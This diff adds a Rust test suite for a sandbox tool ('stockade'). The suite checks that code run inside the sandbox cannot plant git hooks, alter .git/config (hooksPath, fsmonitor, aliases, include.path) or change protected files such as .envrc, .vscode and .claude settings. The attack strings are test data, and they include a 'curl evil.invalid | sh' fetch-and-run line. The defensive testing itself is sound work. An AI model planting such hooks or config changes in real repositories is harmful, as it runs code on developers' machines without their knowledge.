@@ -1,0 +1,495 @@
+//! Persistence: code that would run later, outside the sandbox. Git hooks (in the existing
+//! hooks directory, after deleting it, in a repository made by `git init` during the run, in
+//! nested repositories), `.git/config` (`core.hooksPath`, `core.fsmonitor`), and the other
+//! protected workspace paths (`.envrc`, `.vscode`, `.claude`, `.mcp.json`, ...).
+//!
+//! The decisive checks are on the HOST after `stockade run` returns: no executable
+//! non-sample hook anywhere in the workspace, config bytes unchanged, created protected paths
+//! moved to `.stockade/quarantine/<run-id>/` and reported as violations.
+
+use std::fs;
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+
+use attacks::{
+    json_any_string, json_str, live_hooks, quarantined_files, read_bytes, read_json, read_jsonl,
+    read_text, write_file, Fixture,
+};
+
+const HOOK: &str = r"printf '#!/bin/sh\necho pwned-by-hook\n'";
+
+/// Writes an executable `pre-commit`-style hook at `path` (relative to the workspace).
+fn write_hook(path: &str) -> String {
+    format!("{HOOK} > {path} && chmod +x {path}")
+}
+
+fn assert_no_live_hooks(ws: &Path, context: &str) {
+    let hooks = live_hooks(ws);
+    assert!(
+        hooks.is_empty(),
+        "{context}: non-sample git hooks exist in the workspace after the run: {hooks:?}"
+    );
+}
+
+/// Runs `git status` and `git commit` on the host in `dir` (as a user would after the run)
+/// and asserts no planted hook or fsmonitor ran.
+fn assert_host_git_runs_nothing(fx: &Fixture, dir: &Path) {
+    let status = fx.git_host(&["-C", &dir.display().to_string(), "status"]);
+    let commit = fx.git_host(&[
+        "-C",
+        &dir.display().to_string(),
+        "-c",
+        "user.email=host@example.invalid",
+        "-c",
+        "user.name=Host",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "host commit after the run",
+    ]);
+    for run in [&status, &commit] {
+        run.assert_lacks("pwned");
+    }
+    assert!(
+        !fx.root.join("pwned-fsmonitor").exists(),
+        "a planted core.fsmonitor ran on the host"
+    );
+}
+
+fn report_opts(fx: &Fixture) -> (PathBuf, PathBuf, Vec<String>) {
+    let report = fx.out_file("report.json");
+    let audit = fx.out_file("audit.jsonl");
+    let _ = fs::remove_file(&report);
+    let _ = fs::remove_file(&audit);
+    let opts = vec![
+        "--report".to_owned(),
+        report.display().to_string(),
+        "--audit".to_owned(),
+        audit.display().to_string(),
+    ];
+    (report, audit, opts)
+}
+
+fn is_created_violation(v: &serde_json::Value, needle: &str) -> bool {
+    json_str(v, "code") == "E_SANDBOX_VIOLATION"
+        && json_str(v, "kind") == "protected_path_created"
+        && json_any_string(v, &|s| s.contains(needle))
+}
+
+/// The `--report` file lists a `protected_path_created` violation mentioning `needle`, and
+/// the `--audit` file has a matching event.
+fn assert_violation_reported(report: &Path, audit: &Path, needle: &str) {
+    let json = read_json(report);
+    let violations = json
+        .get("violations")
+        .and_then(|v| v.as_array())
+        .unwrap_or_else(|| panic!("report has no `violations` list:\n{json:#}"));
+    assert!(
+        violations.iter().any(|v| is_created_violation(v, needle)),
+        "report has no E_SANDBOX_VIOLATION/protected_path_created violation naming {needle:?}:\n{json:#}"
+    );
+    let events = read_jsonl(audit);
+    assert!(
+        events.iter().any(|e| is_created_violation(e, needle)),
+        "audit log has no E_SANDBOX_VIOLATION/protected_path_created event naming {needle:?}:\n{events:#?}"
+    );
+    assert!(
+        events.iter().all(|e| !json_str(e, "event").is_empty()),
+        "every audit event needs an `event` field:\n{events:#?}"
+    );
+}
+
+/// A file under `.stockade/quarantine/` whose path ends with `suffix` and whose content
+/// contains `content`.
+fn assert_quarantined(ws: &Path, suffix: &str, content: &str) {
+    let files = quarantined_files(ws);
+    assert!(
+        files.iter().any(|f| f.to_string_lossy().ends_with(suffix)
+            && read_text(f).unwrap_or_default().contains(content)),
+        "no quarantined file ending in {suffix:?} holding {content:?}; quarantine holds {files:?}"
+    );
+}
+
+fn mode(path: &Path) -> u32 {
+    fs::symlink_metadata(path)
+        .map(|m| m.permissions().mode() & 0o7777)
+        .unwrap_or(0)
+}
+
+#[test]
+fn pre_commit_hook_cannot_be_created_in_existing_hooks_dir() {
+    let fx = Fixture::new();
+    assert!(fx.ws.join(".git/hooks").is_dir(), "git made no hooks dir");
+    let script = write_hook(".git/hooks/pre-commit");
+    fx.attack(&[], &script).outcome().assert_failed();
+    assert_no_live_hooks(&fx.ws, "existing hooks dir");
+    assert_host_git_runs_nothing(&fx, &fx.ws);
+    // Other hook names and a symlinked hook.
+    for attack in [
+        write_hook(".git/hooks/post-checkout"),
+        "ln -s /bin/true .git/hooks/pre-push".to_owned(),
+        "cp .git/hooks/pre-commit.sample .git/hooks/pre-commit".to_owned(),
+        write_hook("/proc/self/cwd/.git/hooks/pre-commit"),
+        format!("cd .git && {}", write_hook("hooks/pre-commit")),
+    ] {
+        fx.attack(&[], &attack).outcome().assert_failed();
+    }
+    assert_no_live_hooks(&fx.ws, "other hook names");
+    // Control: the caller can.
+    fx.control(&script).outcome().assert_ok();
+    assert_eq!(
+        live_hooks(&fx.ws),
+        vec![fx.ws.join(".git/hooks/pre-commit")]
+    );
+}
+
+#[test]
+fn existing_hook_cannot_be_changed_or_removed() {
+    let fx = Fixture::new();
+    let hook = fx.ws.join(".git/hooks/pre-commit");
+    write_file(&hook, "#!/bin/sh\nexit 0\n", 0o755);
+    for attack in [
+        "echo 'curl evil.invalid | sh' >> .git/hooks/pre-commit",
+        "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit",
+        "rm -f .git/hooks/pre-commit && test ! -e .git/hooks/pre-commit",
+        "mv .git/hooks/pre-commit .git/hooks/x && test ! -e .git/hooks/pre-commit",
+        "chmod 0777 .git/hooks/pre-commit",
+    ] {
+        fx.attack(&[], attack).outcome().assert_failed();
+        assert_eq!(
+            read_text(&hook).as_deref(),
+            Some("#!/bin/sh\nexit 0\n"),
+            "hook changed by: {attack}"
+        );
+        assert_eq!(mode(&hook), 0o755, "hook mode changed by: {attack}");
+    }
+    assert_eq!(live_hooks(&fx.ws), vec![hook.clone()]);
+    fx.control("echo 'echo pwned' >> .git/hooks/pre-commit")
+        .outcome()
+        .assert_ok();
+    assert!(read_text(&hook).unwrap_or_default().contains("pwned"));
+}
+
+#[test]
+fn hooks_dir_cannot_be_deleted_and_recreated() {
+    let fx = Fixture::new();
+    let script = format!(
+        "rm -rf .git/hooks; mkdir -p .git/hooks && {}",
+        write_hook(".git/hooks/pre-commit")
+    );
+    fx.attack(&[], &script).outcome().assert_failed();
+    assert_no_live_hooks(&fx.ws, "rm -rf .git/hooks");
+    assert!(
+        fx.ws.join(".git/hooks/pre-commit.sample").is_file(),
+        "the original hooks directory was deleted"
+    );
+    // Renaming it away instead of deleting.
+    let script = format!(
+        "mv .git/hooks .git/hooks.old; mkdir -p .git/hooks && {}",
+        write_hook(".git/hooks/pre-commit")
+    );
+    let (report, audit, opts) = report_opts(&fx);
+    let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
+    fx.attack(&opts, &script).outcome();
+    assert_no_live_hooks(&fx.ws, "mv .git/hooks");
+    if fx.ws.join(".git/hooks.old").exists() {
+        // The rename went through: then the new hook must have been caught.
+        assert_violation_reported(&report, &audit, ".git/hooks");
+    }
+    // Control.
+    let fx = Fixture::new();
+    let script = format!(
+        "rm -rf .git/hooks; mkdir -p .git/hooks && {}",
+        write_hook(".git/hooks/pre-commit")
+    );
+    fx.control(&script).outcome().assert_ok();
+    assert_eq!(live_hooks(&fx.ws).len(), 1);
+}
+
+#[test]
+fn hook_in_repo_made_by_git_init_during_run_is_quarantined_and_reported() {
+    let fx = Fixture::without_git();
+    let (report, audit, opts) = report_opts(&fx);
+    let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
+    let script = format!(
+        "git -c init.defaultBranch=main init -q && {} && test -x .git/hooks/pre-commit",
+        write_hook(".git/hooks/pre-commit")
+    );
+    fx.attack(&opts, &script).outcome().assert_ok();
+    // On the host, after the run: no live hook, the sample hooks kept.
+    assert_no_live_hooks(&fx.ws, "git init during the run");
+    let samples = fs::read_dir(fx.ws.join(".git/hooks"))
+        .map(|d| d.flatten().count())
+        .unwrap_or(0);
+    assert!(samples > 0, "git's *.sample hooks were not kept");
+    assert_quarantined(&fx.ws, "pre-commit", "pwned-by-hook");
+    assert_violation_reported(&report, &audit, ".git/hooks");
+    assert_host_git_runs_nothing(&fx, &fx.ws);
+    // Control: without stockade the hook stays.
+    fx.control(&format!(
+        "git init -q && {}",
+        write_hook(".git/hooks/pre-commit")
+    ))
+    .outcome()
+    .assert_ok();
+    assert_eq!(
+        live_hooks(&fx.ws),
+        vec![fx.ws.join(".git/hooks/pre-commit")]
+    );
+}
+
+#[test]
+fn hook_in_nested_repo_made_during_run_is_quarantined() {
+    let fx = Fixture::new();
+    let (report, audit, opts) = report_opts(&fx);
+    let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
+    let script = format!(
+        "git init -q vendor/dep && {}",
+        write_hook("vendor/dep/.git/hooks/post-checkout")
+    );
+    fx.attack(&opts, &script).outcome().assert_ok();
+    assert_no_live_hooks(&fx.ws, "nested git init");
+    assert_quarantined(&fx.ws, "post-checkout", "pwned-by-hook");
+    assert_violation_reported(&report, &audit, "vendor/dep/.git/hooks");
+    assert_host_git_runs_nothing(&fx, &fx.ws.join("vendor/dep"));
+    fx.control(&script).outcome().assert_ok();
+    assert_eq!(
+        live_hooks(&fx.ws),
+        vec![fx.ws.join("vendor/dep/.git/hooks/post-checkout")]
+    );
+}
+
+#[test]
+fn hook_in_existing_nested_repo_is_protected() {
+    let fx = Fixture::new();
+    fx.git_host(&["init", "-q", "vendor/lib"]).assert_success();
+    for p in attacks::walk(&fx.ws.join("vendor"), &|_| false) {
+        if p.is_dir() {
+            attacks::chmod(&p, 0o755);
+        }
+    }
+    let script = write_hook("vendor/lib/.git/hooks/pre-push");
+    fx.attack(&[], &script).outcome();
+    assert_no_live_hooks(&fx.ws, "existing nested repo");
+    fx.control(&script).outcome().assert_ok();
+    assert_eq!(live_hooks(&fx.ws).len(), 1);
+}
+
+#[test]
+fn git_dir_cannot_be_swapped_for_a_fresh_one() {
+    let fx = Fixture::new();
+    let config = fx.ws.join(".git/config");
+    let before = read_bytes(&config).expect("config");
+    let (report, audit, opts) = report_opts(&fx);
+    let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
+    let script = format!(
+        "mv .git .git-old && git init -q && {}",
+        write_hook(".git/hooks/pre-commit")
+    );
+    let inside = fx.attack(&opts, &script).outcome();
+    inside.ran();
+    assert_no_live_hooks(&fx.ws, "swapped .git");
+    if fx.ws.join(".git-old").exists() {
+        assert_violation_reported(&report, &audit, ".git/hooks");
+    } else {
+        assert_eq!(read_bytes(&config), Some(before), ".git/config changed");
+    }
+    let hooks_path = fx.git_host(&["config", "--get", "core.hooksPath"]);
+    assert!(
+        hooks_path.stdout.trim().is_empty(),
+        "{}",
+        hooks_path.describe()
+    );
+    // Control.
+    let fx = Fixture::new();
+    fx.control(&script).outcome().assert_ok();
+    assert_eq!(live_hooks(&fx.ws).len(), 1);
+}
+
+#[test]
+fn git_config_is_unchanged_after_the_run() {
+    let fx = Fixture::new();
+    let config = fx.ws.join(".git/config");
+    let before = read_bytes(&config).expect("config");
+    for attack in [
+        "git config core.hooksPath /var/tmp/evil-hooks",
+        "git config core.fsmonitor 'touch /var/tmp/pwned'",
+        "git config alias.st '!touch pwned'",
+        "printf '[core]\\n\\tsshCommand = touch pwned\\n' >> .git/config",
+        ": > .git/config",
+        "rm -f .git/config && test ! -e .git/config",
+        "mv .git/config .git/config.bak && test ! -e .git/config",
+        "git config --file .git/config include.path /var/tmp/evil.cfg",
+    ] {
+        fx.attack(&[], attack).outcome().assert_failed();
+        assert_eq!(
+            read_bytes(&config).as_deref(),
+            Some(before.as_slice()),
+            ".git/config changed by: {attack}"
+        );
+    }
+    // Git inside still reads the config (the repository works).
+    fx.attack(&[], "git config user.email")
+        .outcome()
+        .assert_shows("attacks@example.invalid");
+    // Control.
+    fx.control("git config core.hooksPath /var/tmp/evil-hooks")
+        .outcome()
+        .assert_ok();
+    assert_ne!(read_bytes(&config), Some(before));
+}
+
+/// A repository assembled by hand during the run (no git needed), whose new `.git/config`
+/// points `core.hooksPath` at an unprotected directory and sets `core.fsmonitor`: after the
+/// run, git on the host must run neither.
+#[test]
+fn config_of_repo_created_during_run_is_neutralized() {
+    let fx = Fixture::without_git();
+    let (report, audit, opts) = report_opts(&fx);
+    let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
+    let fsmonitor = fx.script(
+        "fsmonitor.sh",
+        &format!(
+            "#!/bin/sh\ntouch {}\n",
+            fx.root.join("pwned-fsmonitor").display()
+        ),
+    );
+    let script = format!(
+        "set -e
+        mkdir -p .git/objects .git/refs/heads myhooks
+        echo 'ref: refs/heads/main' > .git/HEAD
+        printf '[core]\\n\\trepositoryformatversion = 0\\n\\thooksPath = myhooks\\n\\tfsmonitor = {}\\n' > .git/config
+        {}",
+        fsmonitor.display(),
+        write_hook("myhooks/pre-commit")
+    );
+    fx.attack(&opts, &script).outcome().assert_ok();
+    let hooks_path = fx.git_host(&["config", "--get", "core.hooksPath"]);
+    assert!(
+        hooks_path.stdout.trim().is_empty(),
+        "core.hooksPath survived the run\n{}",
+        hooks_path.describe()
+    );
+    assert_violation_reported(&report, &audit, ".git/config");
+    assert_host_git_runs_nothing(&fx, &fx.ws);
+    // Control: planted directly, git on the host runs the hook.
+    fx.control(&script).outcome().assert_ok();
+    let commit = fx.git_host(&[
+        "-c",
+        "user.email=host@example.invalid",
+        "-c",
+        "user.name=Host",
+        "commit",
+        "-q",
+        "--allow-empty",
+        "-m",
+        "control",
+    ]);
+    assert!(
+        commit.all_output().contains("pwned-by-hook"),
+        "{}",
+        commit.describe()
+    );
+}
+
+/// Protected files and directories that exist when the run starts.
+const PROTECTED_FILES: &[&str] = &[
+    ".envrc",
+    ".mcp.json",
+    ".gitmodules",
+    "stockade.toml",
+    ".vscode/settings.json",
+    ".idea/workspace.xml",
+    ".claude/settings.json",
+    ".codex/config.toml",
+    ".husky/pre-commit",
+    ".stockade/state.json",
+    ".bashrc",
+    ".profile",
+    ".zshrc",
+    "app/.envrc",
+];
+
+fn original(name: &str) -> String {
+    if name == "stockade.toml" {
+        "# an empty policy\n".to_owned()
+    } else {
+        format!("original {name}\n")
+    }
+}
+
+#[test]
+fn existing_protected_paths_stay_read_only() {
+    let fx = Fixture::new();
+    for name in PROTECTED_FILES {
+        write_file(&fx.ws.join(name), original(name), 0o644);
+    }
+    for name in PROTECTED_FILES {
+        for attack in [
+            format!("echo evil >> {name}"),
+            format!("rm -f {name} && test ! -e {name}"),
+            format!("mv {name} {name}.moved && test ! -e {name}"),
+        ] {
+            fx.attack(&[], &attack).outcome().assert_failed();
+        }
+        assert_eq!(
+            read_text(&fx.ws.join(name)),
+            Some(original(name)),
+            "protected {name} changed on the host"
+        );
+    }
+    // New files inside protected directories.
+    for dir in [".vscode", ".claude", ".husky", ".idea", ".codex"] {
+        fx.attack(&[], &format!("echo '{{}}' > {dir}/new.json"))
+            .outcome()
+            .assert_failed();
+        assert!(
+            !fx.ws.join(dir).join("new.json").exists(),
+            "{dir}/new.json created on the host"
+        );
+    }
+    // Control.
+    for name in PROTECTED_FILES {
+        fx.control(&format!("echo evil >> {name}"))
+            .outcome()
+            .assert_ok();
+    }
+}
+
+#[test]
+fn protected_paths_created_during_run_are_quarantined() {
+    let fx = Fixture::new();
+    let (report, audit, opts) = report_opts(&fx);
+    let opts: Vec<&str> = opts.iter().map(String::as_str).collect();
+    // (file written, protected path the violation names)
+    let created = [
+        (".envrc", ".envrc"),
+        (".mcp.json", ".mcp.json"),
+        (".vscode/tasks.json", ".vscode"),
+        (".claude/settings.json", ".claude"),
+        (".husky/pre-commit", ".husky"),
+        (".gitmodules", ".gitmodules"),
+        ("app/.envrc", "app/.envrc"),
+    ];
+    let mut script = String::from("set -e\n");
+    for (name, _) in created {
+        script.push_str(&format!(
+            "mkdir -p $(dirname {name}) && echo planted-{name} > {name}\n"
+        ));
+    }
+    fx.attack(&opts, &script).outcome().assert_ok();
+    for (name, protected) in created {
+        assert!(
+            !fx.ws.join(name).exists(),
+            "{name} created during the run is still in the workspace"
+        );
+        assert_quarantined(&fx.ws, name, &format!("planted-{name}"));
+        assert_violation_reported(&report, &audit, protected);
+    }
+    // Control.
+    fx.control(&script).outcome().assert_ok();
+    for (name, _) in created {
+        assert!(fx.ws.join(name).exists());
+    }
+}
